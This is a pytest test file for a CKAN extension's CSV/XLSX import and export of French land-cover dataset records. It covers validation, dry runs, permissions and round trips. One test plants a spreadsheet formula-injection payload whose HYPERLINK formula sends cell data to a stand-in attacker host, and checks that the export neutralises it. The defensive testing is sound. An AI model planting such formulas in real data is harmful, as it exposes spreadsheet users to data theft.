"""``ckan ocsregistry import``: validation, dry run, all-or-nothing, round trip."""
from __future__ import annotations

import csv
import io

import pytest
from ckan.cli.cli import ckan
from ckan.tests.helpers import call_action

from ckanext.ocsregistry import restricted
from .conftest import RESTRICTED_VALUES, create_record

pytestmark = pytest.mark.usefixtures("with_plugins", "with_extended_cli", "clean_db", "clean_index")


def _export(app, fmt="csv", **params):
    resp = app.get(f"/ocsregistry/export.{fmt}", query_string=params)
    assert resp.status_code == 200
    return resp.get_data()


def _import(cli, path, *args):
    return cli.invoke(ckan, ["ocsregistry", "import", str(path), *args])


def _rows(data: bytes):
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def _write(tmp_path, rows, name="registre.csv"):
    path = tmp_path / name
    with open(path, "w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f, delimiter=";").writerows(rows)
    return path


def _show_all(names, user):
    return {n: call_action("package_show", context={"user": user}, id=n) for n in names}


@pytest.fixture
def records(crige_grand_est, crige_occitanie):
    create_record(crige_grand_est)
    create_record(crige_occitanie, name="ocsid", title="OCSID", region_code="76",
                  former_region_codes=["91"], ocs_characteristic="ocs_ge_improved",
                  vintages=[{"year": 2012, "status": "available", "note": "Aude; P.-O. (66)"}])
    return ["ocs-ge2-grand-est", "ocsid"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_leaves_records_unchanged(app, cli, tmp_path, records, sysadmin, fmt):
    before = _show_all(records, sysadmin["name"])
    path = tmp_path / f"registre.{fmt}"
    path.write_bytes(_export(app, fmt))
    result = _import(cli, path)
    assert result.exit_code == 0, result.output
    assert "0 to create, 0 to update, 2 unchanged" in result.output
    assert _show_all(records, sysadmin["name"]) == before


def test_edited_export_updates_and_creates(app, cli, tmp_path, records, sysadmin):
    rows = _rows(_export(app))
    header = rows[0]
    col = {h: i for i, h in enumerate(header)}
    rows[1][col["UMC principale (m²)"]] = "1 000,5"
    rows[1][col["Millésimes"]] = "2010 Disponible; 2019 Disponible; 2025 Prévu (mise à jour)"
    new = list(rows[2])
    new[col["Adresse (URL)"]] = "ocsid-2"
    new[col["Nom de la base"]] = "OCSID 2"
    rows.append(new)
    before = _show_all(records, sysadmin["name"])
    result = _import(cli, _write(tmp_path, rows))
    assert result.exit_code == 0, result.output
    assert "1 to create, 1 to update, 1 unchanged" in result.output
    after = call_action("package_show", context={"user": sysadmin["name"]}, id="ocs-ge2-grand-est")
    assert after["mmu_m2"] == 1000.5
    assert after["vintages"][-1] == {"year": 2025, "status": "planned", "note": "mise à jour"}
    # restricted values the export could not carry are kept
    assert restricted.with_values(after)["funders"] == RESTRICTED_VALUES["funders"]
    assert "funders" not in before["ocs-ge2-grand-est"]  # never in CKAN's own dict
    created = call_action("package_show", id="ocsid-2")
    assert created["former_region_codes"] == ["91"] and created["organization"]["name"] == "openig"


def test_dry_run_reports_every_bad_row_and_field_and_writes_nothing(app, cli, tmp_path, records, sysadmin):
    rows = _rows(_export(app))
    col = {h: i for i, h in enumerate(rows[0])}
    rows[1][col["UMC principale (m²)"]] = "-3"
    rows[1][col["Lien vers les données"]] = "ftp://x"
    rows[2][col["Caractéristique de l'OCS"]] = "OCS lunaire"
    rows[2][col["Millésimes"]] = "deux mille"
    before = _show_all(records, sysadmin["name"])
    path = _write(tmp_path, rows)
    for args in (["--dry-run"], []):
        result = _import(cli, path, *args)
        assert result.exit_code == 1
        output = result.output
        assert "registre.csv:2 (ocs-ge2-grand-est) mmu_m2" in output
        assert "registre.csv:2 (ocs-ge2-grand-est) data_url" in output
        assert "registre.csv:3 (ocsid) ocs_characteristic" in output
        assert "registre.csv:3 (ocsid) vintages" in output
        assert "Nothing was written" in output
        assert _show_all(records, sysadmin["name"]) == before


def test_one_bad_row_blocks_the_good_ones(app, cli, tmp_path, records):
    rows = _rows(_export(app))
    col = {h: i for i, h in enumerate(rows[0])}
    good = list(rows[2])
    good[col["Adresse (URL)"]] = "brand-new"
    bad = list(rows[2])
    bad[col["Adresse (URL)"]] = "also-new"
    bad[col["Code INSEE de la région"]] = "99"
    result = _import(cli, _write(tmp_path, [rows[0], good, bad]))
    assert result.exit_code == 1
    assert call_action("package_search", q="name:brand-new")["count"] == 0


def test_valid_dry_run_writes_nothing(app, cli, tmp_path, records):
    rows = _rows(_export(app))
    rows[1][rows[0].index("Nom de la base")] = "Titre changé"
    result = _import(cli, _write(tmp_path, rows), "--dry-run")
    assert result.exit_code == 0 and "Dry run" in result.output
    assert call_action("package_show", id="ocs-ge2-grand-est")["title"] != "Titre changé"


def test_editor_cannot_import_into_another_crige(app, cli, tmp_path, records, crige_occitanie):
    rows = _rows(_export(app))
    rows[1][rows[0].index("Nom de la base")] = "Piraté"
    result = _import(cli, _write(tmp_path, rows[:2]), "--user", crige_occitanie["editor"]["name"])
    assert result.exit_code == 1
    assert call_action("package_show", id="ocs-ge2-grand-est")["title"] != "Piraté"


@pytest.mark.parametrize("content,message", [
    ([["Colonne inconnue"], ["x"]], 'unknown column "Colonne inconnue"'),
    ([["Nom de la base"], ["x"]], "column is needed"),
    ([], "empty"),
    ([["Adresse (URL)", "name"], ["a", "b"]], "appears twice"),
])
def test_bad_files_are_refused(cli, tmp_path, content, message):
    result = _import(cli, _write(tmp_path, content))
    assert result.exit_code == 1 and message in result.output


def test_duplicate_and_missing_names(cli, tmp_path):
    rows = [["Adresse (URL)", "Nom de la base", "Code INSEE de la région"],
            ["dup", "A", "44"], ["dup", "B", "44"], ["", "C", "44"]]
    result = _import(cli, _write(tmp_path, rows), "--dry-run")
    assert "already on line 2" in result.output
    assert ":4 (?) name: required" in result.output


def test_formulas_are_neutralised_in_the_csv_and_read_back_unchanged(
        app, cli, tmp_path, crige_grand_est, sysadmin):
    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Cliquez")'
    create_record(crige_grand_est, title=formula, producers=["+33 1 23 45", "@ocs", "-moins"])
    rows = _rows(_export(app))
    header = rows[0]
    title = rows[1][header.index("Nom de la base")]
    assert title == "'" + formula  # OWASP: a spreadsheet shows it as text, never runs it
    assert rows[1][header.index("Prestataire(s) de production")] == "'+33 1 23 45; @ocs; -moins"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)

    result = _import(cli, _write(tmp_path, rows))
    assert result.exit_code == 0, result.output
    assert "1 unchanged" in result.output
    shown = call_action("package_show", id="ocs-ge2-grand-est")
    assert shown["title"] == formula and shown["producers"] == ["+33 1 23 45", "@ocs", "-moins"]


def test_licence_and_update_frequency_columns_export_and_import(app, cli, tmp_path, crige_grand_est,
                                                                 sysadmin):
    create_record(crige_grand_est, license_id="etalab-2.0", update_frequency="TRIENNIAL")
    rows = _rows(_export(app))
    col = {h: i for i, h in enumerate(rows[0])}
    assert rows[1][col["Licence des données"]] == "Licence Ouverte 2.0 (Etalab)"
    assert rows[1][col["Fréquence de mise à jour de la base"]] == "Tous les 3 ans (triennale)"
    english = _export(app, lang="en").decode("utf-8-sig")  # comma-separated
    assert "Open Licence 2.0 (Etalab)" in english and "Every 3 years (triennial)" in english

    rows[1][col["Licence des données"]] = "ODbL (Open Database License)"  # a label
    rows[1][col["Fréquence de mise à jour de la base"]] = "ANNUAL"  # or a code
    result = _import(cli, _write(tmp_path, rows))
    assert result.exit_code == 0, result.output
    after = call_action("package_show", context={"user": sysadmin["name"]}, id="ocs-ge2-grand-est")
    assert (after["license_id"], after["update_frequency"]) == ("odc-odbl", "ANNUAL")

    rows[1][col["Licence des données"]] = "Licence lunaire"
    rows[1][col["Fréquence de mise à jour de la base"]] = "Chaque siècle"
    result = _import(cli, _write(tmp_path, rows, "bad.csv"), "--dry-run")
    assert result.exit_code == 1
    assert "bad.csv:2 (ocs-ge2-grand-est) license_id" in result.output, result.output
    assert "bad.csv:2 (ocs-ge2-grand-est) update_frequency" in result.output, result.output
